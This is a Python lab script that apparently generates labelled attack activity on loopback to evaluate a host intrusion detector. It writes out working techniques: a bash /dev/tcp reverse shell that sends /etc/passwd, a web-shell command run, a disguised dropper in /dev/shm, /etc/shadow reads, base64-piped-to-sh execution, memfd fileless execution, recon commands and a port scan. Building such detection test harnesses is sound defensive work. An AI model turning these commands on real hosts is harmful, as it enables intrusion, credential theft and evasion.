#!/usr/bin/env python3
"""Attack scenarios against the lab host, harmless and self-cleaning, loopback only.

Each scenario runs as its own process tree; ``run`` prints (and with ``--sidecar FILE`` appends to a JSON
sidecar) the scenario name and the tree's root pid, so ``sentinel model eval`` can count only that tree in a
system-wide capture. ``run`` starts the lab services itself (the web shell's tree is rooted at its web
server), so the benign workload must not be running at the same time.

    python3 scripts/lab/attacks.py --list
    python3 scripts/lab/attacks.py run web_shell [--sidecar CAPTURE.attacks.json]
    python3 scripts/lab/attacks.py run all --sidecar CAPTURE.attacks.json

Exit codes: 0 ran, 1 a scenario failed, 2 bad usage.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import contextlib

import lab

PAYLOAD = (
    "ZWNobyBsYWItYXR0YWNrLXBheWxvYWQ7IGlkOyB1bmFtZSAtYQo="  # base64 of: echo lab-attack-payload; id; uname -a
)


def listener() -> tuple[socket.socket, int]:
    """A loopback listener on an odd port that accepts and drains whatever connects (the 'C2')."""
    srv = socket.create_server(("127.0.0.1", 0))
    port = srv.getsockname()[1]

    def serve() -> None:
        srv.settimeout(15)
        try:
            while True:
                conn, _ = srv.accept()
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    conn.recv(4096)
                conn.close()
        except OSError:
            pass

    threading.Thread(target=serve, daemon=True).start()
    return srv, port


def via_web_shell(cmd: str) -> None:
    """The planted web shell: the lab's php-fpm runs ``cmd`` with /bin/sh."""
    url = f"http://127.0.0.1:{lab.WEB_PORT}/exec?c={cmd.encode().hex()}"
    with urllib.request.urlopen(url, timeout=30) as r:
        r.read()


def web_shell() -> list[str]:
    srv, port = listener()
    via_web_shell(f"id; uname -a; whoami; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'")
    srv.close()
    return ["sh", "-c", "web shell via php-fpm"]


def reverse_shell() -> list[str]:
    srv, port = listener()
    cmd = f"bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; echo $(id) >&5; cat /etc/passwd >&5'"
    subprocess.run(["/bin/sh", "-c", cmd], check=False)
    srv.close()
    return []


def dropper() -> list[str]:
    srv, port = listener()
    drop = Path(tempfile.mkdtemp(prefix=".x", dir="/dev/shm")) / "kworkerd"
    shutil.copy("/usr/bin/python3", drop)
    code = (
        f"import socket,sys; s=socket.create_connection(('127.0.0.1',{port})); s.send(sys.argv[1].encode())"
    )
    env = {**os.environ, "PYTHONHOME": sys.base_prefix}
    subprocess.run([str(drop), "-c", code, PAYLOAD], env=env, check=False)
    shutil.rmtree(drop.parent, ignore_errors=True)
    srv.close()
    return []


def credential_read() -> list[str]:
    tool = Path(tempfile.mkdtemp(prefix="lab-")) / "rd"
    shutil.copy("/bin/cat", tool)
    subprocess.run([str(tool), "/etc/shadow", "/etc/gshadow"], stdout=subprocess.DEVNULL, check=False)
    shutil.rmtree(tool.parent, ignore_errors=True)
    return []


def encoded_command() -> list[str]:
    subprocess.run(
        ["/bin/sh", "-c", f"echo {PAYLOAD} | base64 -d | sh"], stdout=subprocess.DEVNULL, check=False
    )
    return []


def discovery_burst() -> list[str]:
    cmds = ["whoami", "id", "uname -a", "cat /etc/passwd", "cat /etc/os-release", "ps -ef", "ip addr",
            "find / -maxdepth 3 -perm -4000 -type f", "ls -la /root /home", "cat /proc/version",
            "getent group sudo", "last -n 5"]  # fmt: skip
    subprocess.run(["/bin/sh", "-c", "; ".join(f"{c} >/dev/null 2>&1" for c in cmds)], check=False)
    return []


def memfd_exec() -> list[str]:
    code = (
        "import os; fd = os.memfd_create('x', 0); "
        "os.write(fd, open('/bin/true','rb').read()); "
        "pid = os.fork()\n"
        "if pid == 0:\n    os.execve(fd, ['[kthreadd]'], {})\n"
        "os.waitpid(pid, 0)"
    )
    subprocess.run([sys.executable, "-c", code], check=False)
    return []


def port_scan() -> list[str]:
    code = (
        "import socket\n"
        "for p in range(20, 120):\n"
        "    s = socket.socket(); s.settimeout(0.05)\n"
        "    try: s.connect(('127.0.0.1', p))\n"
        "    except OSError: pass\n"
        "    s.close()\n"
    )
    subprocess.run([sys.executable, "-c", code], check=False)
    return []


SCENARIOS: dict[str, tuple[Callable[[], list[str]], str]] = {
    "web_shell": (web_shell, "php-fpm starts a shell: id, uname, whoami, bash to an odd loopback port"),
    "reverse_shell": (reverse_shell, "bash with /dev/tcp to an odd loopback port, sends id and /etc/passwd"),
    "dropper": (dropper, "a binary dropped in /dev/shm runs with a base64 payload and connects out"),
    "credential_read": (credential_read, "an unknown binary reads /etc/shadow and /etc/gshadow"),
    "encoded_command": (encoded_command, "echo <base64> | base64 -d | sh"),
    "discovery_burst": (discovery_burst, "a dozen reconnaissance commands in a second"),
    "memfd_exec": (memfd_exec, "a program written to a memfd and executed from it"),
    "port_scan": (port_scan, "connects to 100 loopback ports"),
}


# Scenarios whose malicious tree hangs below the lab's web server rather than below the scenario process.
VIA_WEB_SERVER = frozenset({"web_shell"})


def run_one(name: str, web_pid: int) -> dict[str, object]:
    """Run a scenario in a child process and return the instance record (the root of its process tree)."""
    child = subprocess.Popen([sys.executable, __file__, "_child", name])
    rc = child.wait(120)
    root = web_pid if name in VIA_WEB_SERVER else child.pid
    return {"scenario": name, "root_pid": root, "rc": rc, "time": time.time()}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--list", action="store_true", help="list the scenarios")
    sub = ap.add_subparsers(dest="cmd")
    run = sub.add_parser("run", help="run a scenario (or all)")
    run.add_argument("name", help="scenario name or 'all'")
    run.add_argument("--sidecar", metavar="FILE", help="append the instance(s) to this JSON sidecar")
    run.add_argument("--gap", type=float, default=2.0, metavar="S", help="seconds between scenarios (all)")
    child = sub.add_parser("_child")
    child.add_argument("name")
    args = ap.parse_args()
    if args.list:
        for name, (_, desc) in SCENARIOS.items():
            print(f"{name:<16} {desc}")
        return 0
    if args.cmd == "_child":
        SCENARIOS[args.name][0]()
        return 0
    if args.cmd != "run":
        ap.print_help()
        return 2
    names = list(SCENARIOS) if args.name == "all" else [args.name]
    unknown = [n for n in names if n not in SCENARIOS]
    if unknown:
        print(f"attacks: unknown scenario {unknown[0]!r}; see --list", file=sys.stderr)
        return 2
    if lab.services_running():
        print(f"attacks: port {lab.WEB_PORT} is in use: stop the benign workload first", file=sys.stderr)
        return 1
    created = not lab.ROOT.exists()
    lab.prepare()
    services = lab.start_services()  # our own instance: the web shell's tree is rooted at its pid
    instances = []
    try:
        for i, name in enumerate(names):
            if i:
                time.sleep(args.gap)
            inst = run_one(name, services[0].pid)
            instances.append(inst)
            print(f"attacks: {name} root_pid={inst['root_pid']} rc={inst['rc']}", file=sys.stderr)
    finally:
        lab.stop(services)
        if created:
            shutil.rmtree(lab.ROOT, ignore_errors=True)
    if args.sidecar:
        side = Path(args.sidecar)
        data = json.loads(side.read_text()) if side.exists() else {"instances": []}
        data["instances"].extend(instances)
        side.write_text(json.dumps(data, indent=2) + "\n")
    return 0 if all(i["rc"] == 0 for i in instances) else 1


if __name__ == "__main__":
    sys.exit(main())
